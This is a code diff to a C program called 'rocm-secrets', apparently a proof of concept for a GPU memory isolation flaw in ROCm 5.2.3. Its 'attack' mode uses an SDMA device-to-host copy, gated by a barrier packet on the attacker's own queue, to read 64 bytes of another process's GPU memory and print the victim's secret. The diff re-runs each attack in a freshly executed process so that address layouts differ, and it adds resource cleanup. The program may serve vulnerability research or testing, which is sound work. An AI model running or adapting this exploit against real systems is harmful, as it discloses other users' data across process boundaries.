@@ -11,8 +11,8 @@
  *       buffer back by SDMA and checks that it is unchanged.
  *
  *   rocm-secrets attack [--rocr-abort] NAME:ADDR ...
- *       for each target, in a child process of its own (its own ROCr and
- *       /dev/kfd), copies 64 bytes from ADDR with hsa_amd_memory_async_copy
+ *       for each target, in a process of its own (its own ROCr and
+ *       /dev/kfd: "rocm-secrets attack-one ..." executed anew), copies 64 bytes from ADDR with hsa_amd_memory_async_copy
  *       from the GPU agent to the CPU agent, a copy ROCr 5.2.3 runs on its
  *       SDMA device-to-host blit.  The copy is gated by a barrier-AND
  *       packet on an AQL queue of the attacker's own (its completion
@@ -340,6 +340,12 @@ static int attack_one(const char *target, uint64_t va, int rocr_abort)
     if (ret == 0 && i < LEN) {
         printf("rocm: mallory  READ %s's secret: \"%.*s\"\n", target, LEN,
                dst);
+        hsa_signal_destroy(gate);
+        hsa_signal_destroy(copied);
+        hsa_signal_destroy(done);
+        hsa_queue_destroy(q);
+        hsa_amd_memory_pool_free(dst);
+        CHECK(hsa_shut_down());
         return 3;
     }
     if (ret == -EFAULT) {
@@ -364,6 +370,26 @@ static int attack_one(const char *target, uint64_t va, int rocr_abort)
     return 1;
 }
 
+static int parse_target(const char *arg, char *target, size_t len,
+                        uint64_t *va)
+{
+    const char *colon = strchr(arg, ':');
+
+    if (!colon || colon == arg || (size_t)(colon - arg) >= len) {
+        printf("rocm: mallory: bad target %s\n", arg);
+        return -1;
+    }
+    snprintf(target, len, "%.*s", (int)(colon - arg), arg);
+    *va = strtoull(colon + 1, NULL, 0);
+    return 0;
+}
+
+/*
+ * Each target in a process of its own, executed afresh (its own address
+ * space layout, as separately started programs have: with one shared GPU
+ * VM, legacy-shared=on, forked copies would all pick the same GPU
+ * addresses for their own buffers)
+ */
 static int attack(int argc, char **argv)
 {
     int rocr_abort = 0, worst = 0, i;
@@ -375,23 +401,25 @@ static int attack(int argc, char **argv)
     }
     for (i = 0; i < argc; i++) {
         char target[32];
-        const char *colon = strchr(argv[i], ':');
         uint64_t va;
         int st, rc;
         pid_t pid;
 
-        if (!colon || colon - argv[i] >= (int)sizeof(target)) {
-            printf("rocm: mallory: bad target %s\n", argv[i]);
+        if (parse_target(argv[i], target, sizeof(target), &va)) {
             return 1;
         }
-        snprintf(target, sizeof(target), "%.*s", (int)(colon - argv[i]),
-                 argv[i]);
-        va = strtoull(colon + 1, NULL, 0);
         fflush(stdout);
         pid = fork();
         if (pid == 0) {
-            alarm(WAIT_S * 2);
-            exit(attack_one(target, va, rocr_abort));
+            char *args[] = { "rocm-secrets", "attack-one",
+                             rocr_abort ? "--rocr-abort" : argv[i],
+                             argv[i], NULL };
+
+            if (!rocr_abort) {
+                args[3] = NULL;
+            }
+            execv("/proc/self/exe", args);
+            _exit(1);
         }
         if (pid < 0 || waitpid(pid, &st, 0) != pid) {
             return 1;
@@ -410,6 +438,20 @@ static int attack(int argc, char **argv)
     return worst;
 }
 
+static int attack_child(int argc, char **argv)
+{
+    int rocr_abort = argc == 2 && !strcmp(argv[0], "--rocr-abort");
+    char target[32];
+    uint64_t va;
+
+    if (argc != 1 + rocr_abort ||
+        parse_target(argv[rocr_abort], target, sizeof(target), &va)) {
+        return 1;
+    }
+    alarm(WAIT_S * 2);
+    return attack_one(target, va, rocr_abort);
+}
+
 int main(int argc, char **argv)
 {
     setvbuf(stdout, NULL, _IOLBF, 0);
@@ -419,6 +461,9 @@ int main(int argc, char **argv)
     }
     if (argc >= 3 && !strcmp(argv[1], "attack")) {
         return attack(argc - 2, argv + 2);
+    }
+    if (argc >= 3 && !strcmp(argv[1], "attack-one")) {
+        return attack_child(argc - 2, argv + 2);
     }
     fprintf(stderr, "usage: rocm-secrets owner NAME SECRET | "
             "attack [--rocr-abort] NAME:ADDR ...\n");
